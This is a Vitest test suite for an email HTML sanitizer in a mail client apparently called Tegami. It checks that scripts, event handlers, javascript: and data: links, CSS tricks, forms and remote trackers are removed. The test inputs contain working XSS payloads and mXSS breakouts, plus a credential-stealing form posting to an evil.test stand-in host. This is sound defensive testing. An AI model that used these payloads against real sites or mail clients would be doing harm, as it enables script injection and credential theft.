import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { sanitizeMailHtml, type SanitizeMailHtmlOptions } from "@/lib/sanitize/sanitize-mail-html";

const inlineParts: Record<string, string> = {
  "logo@example.test": "/api/mail/INBOX/7/parts/1.2?inline=1",
  "image001.jpg@01DB2E1A.5F3C2B10": "/api/mail/INBOX/7/parts/2?inline=1",
};

/** A stand-in for the image proxy: remote images load from Tegami itself. */
const proxied = (url: string) => `/api/image-proxy?url=${encodeURIComponent(url)}`;

function options(allowRemote = false): SanitizeMailHtmlOptions {
  return {
    allowRemote,
    inlineImageUrl: (contentId) => inlineParts[contentId] ?? null,
    remoteImageUrl: proxied,
  };
}

const clean = (html: string, allowRemote = false) => sanitizeMailHtml(html, options(allowRemote));
const cleanHtml = (html: string, allowRemote = false) => clean(html, allowRemote).html;

// A text/html message with CTE 8bit: its body is the HTML, after the first empty line.
const newsletterMessage = readFileSync(
  new URL("./fixtures/newsletter.eml", import.meta.url),
  "utf8",
);
const newsletter = newsletterMessage.slice(newsletterMessage.indexOf("\r\n\r\n") + 4);

describe("sanitizeMailHtml: scripts never survive", () => {
  it.each([
    ["script element", `<p>hi</p><script>alert(1)</script>`],
    ["script with src", `<script src="https://evil.test/x.js"></script><p>hi</p>`],
    ["img onerror", `<img src="x" onerror="alert(1)"><p>hi</p>`],
    ["body onload", `<body onload="alert(1)"><p>hi</p></body>`],
    ["svg onload", `<svg onload="alert(1)"><circle r="5"/></svg><p>hi</p>`],
    [
      "svg animate setting href",
      `<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">hi</text></a></svg>`,
    ],
    [
      "math mXSS",
      `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>`,
    ],
    ["iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>hi</p>`],
    ["object and embed", `<object data="x.swf"></object><embed src="x.swf"><p>hi</p>`],
    [
      "noscript breakout",
      `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
    ],
    ["template", `<template><img src=x onerror=alert(1)></template><p>hi</p>`],
    ["style breakout", `<style>p{}</style ><img src=x onerror=alert(1)></style>`],
    ["event handler with entities", `<p onmouseover="&#97;lert(1)">hi</p>`],
  ])("%s", (_, input) => {
    const html = cleanHtml(input);
    expect(html).not.toMatch(/<script|<svg|<math|<iframe|<object|<embed|<template|<noscript/i);
    expect(html).not.toMatch(/\son[a-z]+=|alert\(1\)|javascript:/i);
  });

  it("keeps the text of harmless content next to removed scripts", () => {
    expect(cleanHtml(`<p>Hello</p><script>alert(1)</script><p>Bye</p>`)).toBe(
      "<p>Hello</p><p>Bye</p>",
    );
  });
});

describe("sanitizeMailHtml: links", () => {
  it.each([
    ["javascript:", `<a href="javascript:alert(1)">x</a>`],
    ["entity-encoded javascript:", `<a href="jav&#x61;script:alert(1)">x</a>`],
    ["tab inside the scheme", `<a href="java&#9;script:alert(1)">x</a>`],
    ["leading spaces and upper case", `<a href="  JAVASCRIPT:alert(1)">x</a>`],
    ["vbscript:", `<a href="vbscript:msgbox(1)">x</a>`],
    [
      "data:text/html",
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
    ],
    ["relative path to our own API", `<a href="/api/mail/INBOX/1/delete">x</a>`],
  ])("drops a %s href but keeps the link text", (_, input) => {
    const html = cleanHtml(input);
    expect(html).toBe("<a>x</a>");
  });

  it("opens every link in a new tab without an opener or referrer", () => {
    const html = cleanHtml(`<a href="https://example.test/a" target="_self" rel="opener">a</a>`);
    expect(html).toContain(`href="https://example.test/a"`);
    expect(html).toContain(`target="_blank"`);
    expect(html).toContain(`rel="noopener noreferrer"`);
    expect(html).not.toContain("_self");
    expect(html).not.toContain(`rel="opener"`);
  });

  it("shows the real target as the title when the text claims another one", () => {
    const html = cleanHtml(
      `<a href="https://evil.test/login" title="Your bank">https://bank.example.test</a>`,
    );
    expect(html).toContain(`title="https://evil.test/login"`);
    expect(html).not.toContain("Your bank");
  });

  it("adds no title when the text already is the target", () => {
    const html = cleanHtml(`<a href="https://example.test/">https://example.test</a>`);
    expect(html).toBe(
      `<a href="https://example.test/" target="_blank" rel="noopener noreferrer">https://example.test</a>`,
    );
  });

  it("gives image-only links a title so the target is visible on hover", () => {
    const html = cleanHtml(`<a href="https://example.test/"><img src="cid:logo@example.test"></a>`);
    expect(html).toContain(`title="https://example.test/"`);
  });

  it("keeps mailto and tel links", () => {
    expect(cleanHtml(`<a href="mailto:help@example.test">help@example.test</a>`)).toContain(
      `href="mailto:help@example.test"`,
    );
    expect(cleanHtml(`<a href="tel:+81-3-1234-5678">call</a>`)).toContain(
      `href="tel:+81-3-1234-5678"`,
    );
  });

  it("turns a protocol-relative link into https", () => {
    expect(cleanHtml(`<a href="//example.test/x">x</a>`)).toContain(
      `href="https://example.test/x"`,
    );
  });

  it("cannot be tricked by a sender-supplied link marker", () => {
    const html = cleanHtml(
      `<a href="https://evil.test/" data-tegami-link="0">https://evil.test/</a><a href="https://evil.test/">bank</a>`,
    );
    expect(html).not.toContain("data-tegami-link");
    expect(html).toContain(`title="https://evil.test/">bank</a>`);
  });
});

describe("sanitizeMailHtml: images and remote content", () => {
  it("maps cid: images to their inline part and drops unknown ones", () => {
    const html = cleanHtml(
      `<img src="cid:logo@example.test" alt="logo"><img src="cid:missing@example.test">`,
    );
    expect(html).toBe(`<img src="/api/mail/INBOX/7/parts/1.2?inline=1" alt="logo" />`);
  });

  it("decodes percent-encoded Content-IDs in cid: URLs (RFC 2392)", () => {
    const html = cleanHtml(`<img src="cid:image001.jpg%4001DB2E1A.5F3C2B10">`);
    expect(html).toContain(`src="/api/mail/INBOX/7/parts/2?inline=1"`);
  });

  it("removes a remote tracking pixel and counts it as a tracker, not as blocked content", () => {
    const result = clean(
      `<p>Hi</p><img src="https://t.example.test/open.gif" width="1" height="1" alt="">`,
    );
    expect(result).toEqual({ html: "<p>Hi</p>", remoteBlocked: 0, trackers: 1 });
  });

  it("keeps the alt text of a blocked image so the reader knows what is missing", () => {
    const html = cleanHtml(`<img src="http://img.example.test/scarf.jpg" alt="Wool scarf">`);
    expect(html).toBe(`<img alt="Wool scarf" data-remote-blocked />`);
  });

  it("blocks protocol-relative and backslash tricks as remote", () => {
    const result = clean(
      `<img src="//t.example.test/a.gif"><img src="https:\\\\t.example.test\\b.gif">`,
    );
    expect(result.remoteBlocked).toBe(2);
    expect(result.html).not.toContain("t.example.test");
  });

  it("loads remote images through the proxy when the reader allowed remote content", () => {
    const result = clean(
      `<img src="https://img.example.test/a.png"><img src="//img.example.test/b.png">`,
      true,
    );
    expect(result.remoteBlocked).toBe(0);
    expect(result.html).toBe(
      `<img src="${proxied("https://img.example.test/a.png")}" />` +
        `<img src="${proxied("https://img.example.test/b.png")}" />`,
    );
  });

  it("keeps raster data: images and drops other data: URLs", () => {
    const png = "data:image/png;base64,iVBORw0KGgo=";
    expect(cleanHtml(`<img src="${png}" alt="dot">`)).toBe(`<img src="${png}" alt="dot" />`);
    expect(cleanHtml(`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="svg">`)).toBe(
      `<img alt="svg" />`,
    );
    expect(cleanHtml(`<img src="data:text/html;base64,PHNjcmlwdD4=">x`)).toBe("x");
  });

  it("never loads images relative to Tegami itself", () => {
    expect(cleanHtml(`<img src="/api/mail/INBOX/1/delete" alt="x">`)).toBe(`<img alt="x" />`);
  });

  it("blocks remote background attributes on the body and table cells", () => {
    const result = clean(
      `<body background="https://t.example.test/bg.png"><table background="https://t.example.test/t.png"><tr><td background="cid:logo@example.test">x</td></tr></table></body>`,
    );
    expect(result.remoteBlocked).toBe(2);
    expect(result.html).not.toContain("t.example.test");
    expect(result.html).toContain(`background="/api/mail/INBOX/7/parts/1.2?inline=1"`);
  });

  it("does not count remote URLs inside elements that are dropped anyway", () => {
    const result = clean(
      `<video poster="https://t.example.test/p.jpg"></video><input type="image" src="https://t.example.test/i.gif"><link rel="stylesheet" href="https://t.example.test/s.css">`,
    );
    expect(result.remoteBlocked).toBe(0);
    expect(result.html).toBe("");
  });
});

describe("sanitizeMailHtml: page-level tags", () => {
  it("drops base, meta refresh, link and title", () => {
    const html = cleanHtml(
      `<html><head><title>Secret</title><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css"></head><body><p>Hi</p></body></html>`,
    );
    expect(html).toBe("<div><p>Hi</p></div>");
  });

  it("drops forms and their controls but keeps the surrounding text", () => {
    const html = cleanHtml(
      `<form action="https://evil.test/steal" method="post"><p>Confirm your password</p><input type="password" name="pw"><textarea>prefill</textarea><select><option>a</option></select><button formaction="https://evil.test/">Send</button></form>`,
    );
    expect(html).toBe("<p>Confirm your password</p>Send");
  });

  it("keeps the body's colors on a div", () => {
    expect(cleanHtml(`<body bgcolor="#f4f4f4" style="color:#333"><p>x</p></body>`)).toBe(
      `<div bgcolor="#f4f4f4" style="color:#333"><p>x</p></div>`,
    );
  });
});

describe("sanitizeMailHtml: formatting kept", () => {
  it("keeps the tables, fonts and inline formatting mail layouts use", () => {
    const input =
      `<center><table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff">` +
      `<tbody><tr><td colspan="2" valign="top" style="padding:8px"><font face="Georgia" color="#333" size="2">` +
      `<b>bold</b> <i>it</i> <u>u</u> <s>s</s> <strong>st</strong> <em>em</em> <sub>2</sub><sup>3</sup>` +
      `<small>sm</small> <big>bg</big> <abbr title="HyperText">HTML</abbr></font></td></tr></tbody></table></center>` +
      `<h2 dir="rtl" lang="ar">h</h2><ul><li>a</li></ul><ol start="3"><li>b</li></ol><blockquote type="cite">q</blockquote>` +
      `<pre><code>x &lt; y</code></pre><hr><br><div class="x"><span id="y">z</span></div>`;
    expect(cleanHtml(input)).toBe(input.replace("<hr>", "<hr />").replace("<br>", "<br />"));
  });

  it("keeps text that looks like markup as text", () => {
    expect(cleanHtml(`<p>if a &lt;b&gt; c &amp;&amp; d</p>`)).toBe(
      `<p>if a &lt;b&gt; c &amp;&amp; d</p>`,
    );
  });
});

describe("sanitizeMailHtml: inline styles", () => {
  it("keeps ordinary declarations", () => {
    expect(cleanHtml(`<p style="color: #333; font-size: 14px; margin: 0 auto">x</p>`)).toBe(
      `<p style="color:#333;font-size:14px;margin:0 auto">x</p>`,
    );
  });

  it.each([
    ["expression()", "width: expression(alert(1))"],
    ["javascript: url", "background: url(javascript:alert(1))"],
    ["behavior", "behavior: url(x.htc)"],
    ["-moz-binding", "-moz-binding: url(https://evil.test/x.xml#x)"],
    ["position: fixed", "position: fixed"],
    ["position: absolute", "POSITION: Absolute"],
    ["position: sticky", "position:sticky"],
    ["escaped url()", "background: u\\72l(https://t.example.test/a.png)"],
    ["escaped expression()", "width: e\\78pression(alert(1))"],
    ["image-set() with strings", `background-image: image-set('https://t.example.test/a.png' 1x)`],
    ["a relative url()", "background: url(/api/mail/INBOX/1/delete)"],
  ])("removes %s", (_, declaration) => {
    expect(cleanHtml(`<p style="${declaration}; color: red">x</p>`)).toBe(
      `<p style="color:red">x</p>`,
    );
  });

  it("cannot hide a declaration inside an escaped comment", () => {
    const html = cleanHtml(
      `<p style="background: \\2f\\2a url(https://t.example.test/a.png) \\2a\\2f; color: red">x</p>`,
    );
    expect(html).toBe(`<p style="color:red">x</p>`);
  });

  it("blocks and counts remote url() unless remote content is allowed", () => {
    const input = `<div style="background:url('https://t.example.test/b.png'); color:red">x</div>`;
    expect(clean(input)).toEqual({
      html: `<div style="color:red">x</div>`,
      remoteBlocked: 1,
      trackers: 0,
    });
    const allowed = clean(input, true);
    expect(allowed.remoteBlocked).toBe(0);
    expect(allowed.html).toContain(`url(&quot;${proxied("https://t.example.test/b.png")}&quot;)`);
  });

  it("maps url(cid:...) to the inline part", () => {
    expect(cleanHtml(`<td style="background-image:url(cid:logo@example.test)">x</td>`)).toContain(
      "/api/mail/INBOX/7/parts/1.2?inline=1",
    );
  });

  it("removes a style attribute that has nothing left", () => {
    expect(cleanHtml(`<p style="position:fixed">x</p>`)).toBe("<p>x</p>");
  });

  it("cannot break out of the attribute into other rules", () => {
    const html = cleanHtml(
      `<p style="color:red} body{background:url(https://t.example.test/x)">x</p>`,
    );
    expect(html).not.toContain("t.example.test");
  });
});

describe("sanitizeMailHtml: <style> blocks", () => {
  it("keeps ordinary rules and media queries", () => {
    const html = cleanHtml(
      `<style>.wrapper{width:600px} @media (max-width:480px){.wrapper{width:100% !important}}</style><p class="wrapper">x</p>`,
    );
    expect(html).toBe(
      `<style>.wrapper{width:600px} @media (max-width:480px){.wrapper{width:100% !important}}</style><p class="wrapper">x</p>`,
    );
  });

  it("drops @import, remote @font-face, remote url() and fixed positioning; counts the image", () => {
    const result = clean(
      `<style>@import url("https://t.example.test/a.css");` +
        `@font-face{font-family:Brand;src:url(https://fonts.example.test/b.woff2)}` +
        `.hero{background:url(https://t.example.test/h.jpg);color:#fff}` +
        `.banner{position:fixed;top:0}</style>`,
    );
    expect(result.html).toBe(`<style>.hero{color:#fff}</style>`);
    // The font is not counted: loading remote content would not load it either.
    expect(result.remoteBlocked).toBe(1);
  });

  it("proxies remote backgrounds when remote content is allowed, never fonts or @import", () => {
    const result = clean(
      `<style>@import "https://t.example.test/a.css";@font-face{font-family:Brand;src:url(https://fonts.example.test/b.woff2)}.hero{background:url(https://t.example.test/h.jpg)}</style>`,
      true,
    );
    expect(result.html).toBe(
      `<style>.hero{background:url("${proxied("https://t.example.test/h.jpg")}")}</style>`,
    );
  });

  it("keeps data: fonts", () => {
    const html = cleanHtml(
      `<style>@font-face{font-family:Brand;src:url(data:font/woff2;base64,d09GMgAB)}</style>`,
    );
    expect(html).toContain("data:font/woff2;base64,d09GMgAB");
  });

  it("cannot close the style element from inside a CSS string", () => {
    const html = cleanHtml(
      `<style>p::after{content:"<\\/style><img src=x onerror=alert(1)>"}</style>`,
    );
    expect(html).not.toMatch(/<img|<\/style>.*<\/style>/);
  });

  it("cleans a style element the sender never closed", () => {
    const result = clean(
      `<p>x</p><style>.a{background:url(https://t.example.test/x.png);color:red}`,
    );
    expect(result.html).toBe(`<p>x</p><style>.a{color:red}</style>`);
    expect(result.remoteBlocked).toBe(1);
  });

  it("keeps a stylesheet's media so print-only rules stay off the screen", () => {
    expect(
      cleanHtml(`<style type="text/css" media="print">.screen-only{display:none}</style>`),
    ).toBe(`<style media="print">.screen-only{display:none}</style>`);
  });

  it("removes unknown at-rules", () => {
    const html = cleanHtml(
      `<style>@namespace x url(y); @-moz-document url-prefix() { p { color: blue } } p{color:red}</style>`,
    );
    expect(html).toBe(`<style>p{color:red}</style>`);
  });

  it("drops a stylesheet whose at-rule is hidden behind escapes", () => {
    const html = cleanHtml(
      `<style>@\\69mport url(https://t.example.test/a.css); p{color:red}</style>x`,
    );
    expect(html).toBe("x");
  });

  it("survives sloppy CSS: HTML comment markers, unclosed blocks, stray braces", () => {
    expect(cleanHtml(`<style><!-- p{color:red} --></style>`)).toBe(`<style>p{color:red}</style>`);
    expect(cleanHtml(`<style>p{color:red</style><p>x</p>`)).toBe(
      `<style>p{color:red}</style><p>x</p>`,
    );
    expect(cleanHtml(`<style>p{color:red}} q{color:blue}</style>`)).toBe(
      `<style>p{color:red} q{color:blue}</style>`,
    );
    expect(cleanHtml(`<style>%%% garbage {{{ </style><p>x</p>`)).toBe(`<p>x</p>`);
  });
});

describe("sanitizeMailHtml: broken input", () => {
  it.each([
    ["unclosed tags", `<div><p><b>bold <i>both`],
    ["stray closers", `</div></p></b>text</i>`],
    ["angle-bracket soup", `<<<>>> <p <a href= "x" <img`],
    ["unterminated comment", `<p>a</p><!-- never closed <script>alert(1)</script>`],
    ["null bytes and binary", "\u0000\u0001<p>\uFFFDx\u0000</p>"],
    ["empty", ""],
    ["deep nesting", "<div>".repeat(5000) + "deep" + "</div>".repeat(5000)],
  ])("does not throw on %s", (_, input) => {
    expect(() => clean(input)).not.toThrow();
    expect(cleanHtml(input)).not.toMatch(/<script/i);
  });

  it("closes what the sender left open", () => {
    expect(cleanHtml(`<p><b>unclosed <i>tags`)).toBe(`<p><b>unclosed <i>tags</i></b></p>`);
  });
});

describe("sanitizeMailHtml: a real newsletter", () => {
  it("keeps the layout and text, blocks every remote resource, and counts them", () => {
    const result = clean(newsletter);
    expect(result.html).toContain("Autumn sale");
    expect(result.html).toContain(`<table class="wrapper" width="600"`);
    expect(result.html).toContain(`<font face="Georgia" color="#333333" size="2">`);
    expect(result.html).toContain(`href="https://click.shop.example.test/r?u=abc"`);
    expect(result.html).not.toMatch(/<script|<link|<meta|<title|onload|document\.cookie/);
    expect(result.html).not.toMatch(/img\.shop|t\.shop|fonts\.shop|cdn\.shop/);
    expect(result.html).not.toContain("position");
    // hero-bg.jpg (CSS), hero.jpg (background), product.jpg (img); open.gif is a tracker
    expect(result.remoteBlocked).toBe(3);
    expect(result.trackers).toBe(1);
  });

  it("loads the images through the proxy once allowed, never the tracker, fonts or @import", () => {
    const result = clean(newsletter, true);
    expect(result.remoteBlocked).toBe(0);
    expect(result.trackers).toBe(1);
    expect(result.html).toContain(`src="${proxied("https://img.shop.example.test/product.jpg")}"`);
    expect(result.html).toContain(
      `background="${proxied("https://img.shop.example.test/hero.jpg")}"`,
    );
    expect(result.html).not.toMatch(/@import|<script|cdn\.shop|brand\.woff2|open\.gif/);
    expect(result.html).not.toMatch(/"https?:\/\/(?:img|t|fonts)\.shop/);
  });
});

describe("sanitizeMailHtml: HTML edited inside Tegami", () => {
  it("drops style sheets when asked, keeping inline styles", () => {
    const html = '<style>body{display:none}</style><p style="color:red">hi</p>';
    const result = sanitizeMailHtml(html, { ...options(), dropStyleSheets: true }).html;
    expect(result).not.toContain("<style");
    expect(result).toContain('<p style="color:red">hi</p>');
  });
});
